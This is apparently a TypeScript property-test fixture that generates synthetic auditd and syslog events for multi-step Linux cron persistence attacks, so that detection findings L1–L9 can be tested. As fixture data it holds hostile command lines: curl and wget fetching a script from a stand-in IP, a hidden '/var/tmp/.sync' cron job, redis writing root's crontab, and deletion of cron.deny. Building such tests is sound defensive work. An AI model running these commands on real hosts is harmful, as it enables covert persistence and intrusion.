/** Attacks of several steps on Linux hosts, by the finding that tells of them. */
import fc from 'fast-check';
import { hours, minutes, seconds } from '../core/duration.ts';
import type { CronEvent, FileEvent, ProcessEvent } from '../core/event.ts';
import type { AttackRow, EventAt, Leg, Plan } from './attack-plan.ts';

const ACTOR = { user: 'eve', logonId: '0x7e57' };
const TABLE = '/etc/cron.d/sync7f';
const SPOOL = '/var/spool/cron/crontabs';
const COMMAND = '/var/tmp/.sync --quiet';

function file(path: string, more: Partial<FileEvent> = {}): EventAt {
  const change = { op: 'create', path, isSuccess: true, image: '/usr/bin/bash' } as const;
  return (base) => {
    return { kind: 'file', ...change, ...ACTOR, ...base, telemetry: 'auditd/syscall', ...more };
  };
}

function process(image: string, commandLine: string, more: Partial<ProcessEvent> = {}): EventAt {
  const started = { image, commandLine, ...ACTOR };
  return (base) => ({ kind: 'process', ...started, ...base, telemetry: 'auditd/execve', ...more });
}

/** What cron or crontab says in syslog. */
function line(program: 'cron' | 'crontab', user: string, verb: string, detail: string): EventAt {
  const said = { program, pid: 4_711, user, verb, detail };
  return (base): CronEvent => {
    return { kind: 'cron', ...said, ...base, telemetry: `syslog/${program}` };
  };
}

/** A shell writes a job into a table; as commands do, the record says what it wrote. */
function written(schedule: string): EventAt {
  return file(TABLE, { commandLine: `sh -c "echo '${schedule} eve ${COMMAND}' > ${TABLE}"` });
}

const change: fc.Arbitrary<EventAt> = fc.constantFrom(
  file(TABLE),
  file(TABLE, { op: 'write', access: 'append' }),
  file(TABLE, { op: 'rename', oldPath: '/tmp/a', image: '/usr/bin/mv' }),
  process('/bin/sh', `sh -c "echo x >> ${TABLE}"`),
);
const daily: fc.Arbitrary<EventAt> = fc.constantFrom(
  ...['0 3 * * *', '-5 4 * * sun', '@daily', '@reboot'].map(written),
);
const run: fc.Arbitrary<EventAt> = fc.constantFrom(
  line('cron', 'eve', 'CMD', COMMAND),
  line('cron', 'eve', 'CMD', ` ${COMMAND} `),
  process('/bin/sh', `/bin/sh -c ${COMMAND}`, { parentImage: '/usr/sbin/crond' }),
);
const download: fc.Arbitrary<EventAt> = fc.constantFrom(
  process('/usr/bin/curl', 'curl -O http://203.0.113.9/k.sh'),
  process('/usr/bin/wget', 'wget 203.0.113.9/k.sh'),
  process('/bin/bash', 'bash -c "exec 3<>https://203.0.113.9/k"'),
);
const byService: fc.Arbitrary<EventAt> = fc.constantFrom(
  file(`${SPOOL}/root`, { image: '/usr/bin/redis-server' }),
  file(TABLE, { user: 'www-data' }),
  file(TABLE, { user: '33' }),
);
const packageWork: fc.Arbitrary<EventAt> = fc.constantFrom(
  process('/usr/bin/dpkg', 'dpkg --unpack a.deb'),
  process('/usr/bin/dnf-3', 'dnf update'),
  file('/var/lib/dpkg/lock-frontend', { op: 'write' }),
);
const policy: fc.Arbitrary<EventAt> = fc.constantFrom(
  file('/etc/cron.allow', { op: 'write', access: 'append' }),
  file('/etc/cron.deny', { op: 'delete' }),
);
const firstTable: fc.Arbitrary<EventAt> = fc.constantFrom(
  file(`${SPOOL}/eve`),
  line('crontab', 'eve', 'REPLACE', 'eve'),
);
const refusal: fc.Arbitrary<EventAt> = fc.constantFrom(
  line('cron', '*system*', 'INSECURE MODE', `group/other writable) (${TABLE}`),
  line('cron', '*system*', 'BAD FILE MODE', TABLE),
  line('cron', '*system*', 'WRONG FILE OWNER', TABLE),
);

/** Findings of Linux that there are attacks for. */
export type LinuxEntry = 'L1' | 'L2' | 'L3' | 'L4' | 'L5' | 'L6' | 'L7' | 'L8' | 'L9';

export const linuxAttacks: Readonly<Record<LinuxEntry, AttackRow>> = {
  L1: two(hours(24), ['change', daily], ['run', run]),
  L2: {
    windowMs: seconds(5),
    plans: fc.constant((spanMs) => [
      leg('file', 0, file(`${SPOOL}/eve`, { op: 'rename', oldPath: `${SPOOL}/tmp.a` })),
      {
        ...leg('command', Math.floor(spanMs / 2), process('/usr/bin/crontab', 'crontab /tmp/a')),
        isOptional: true,
      },
      leg('line', spanMs, line('crontab', 'eve', 'REPLACE', 'eve')),
    ]),
  },
  L3: two(minutes(5), ['download', download], ['change', change]),
  L4: {
    windowMs: 1,
    plans: byService.map(
      (event): Plan =>
        () => [leg('change', 0, event)],
    ),
  },
  L5: two(minutes(10), ['change', change], ['removal', fc.constant(file(TABLE, { op: 'delete' }))]),
  L6: two(
    hours(1),
    ['begin', fc.constant(line('crontab', 'eve', 'BEGIN EDIT', 'eve'))],
    ['end', fc.constant(line('crontab', 'eve', 'END EDIT', 'eve'))],
  ),
  L7: two(minutes(2), ['work', packageWork], ['change', change]),
  L8: two(hours(24), ['policy', policy], ['table', firstTable]),
  L9: two(minutes(10), ['change', change], ['refusal', refusal]),
};

type Step = readonly [stage: string, events: fc.Arbitrary<EventAt>];

function two(windowMs: number, [first, firsts]: Step, [last, lasts]: Step): AttackRow {
  const plans = fc.tuple(firsts, lasts).map(
    ([begin, end]): Plan =>
      (spanMs) => [leg(first, 0, begin), leg(last, spanMs, end)],
  );
  return { windowMs, plans };
}

function leg(stage: string, atMs: number, event: EventAt): Leg {
  return { stage, atMs, event };
}
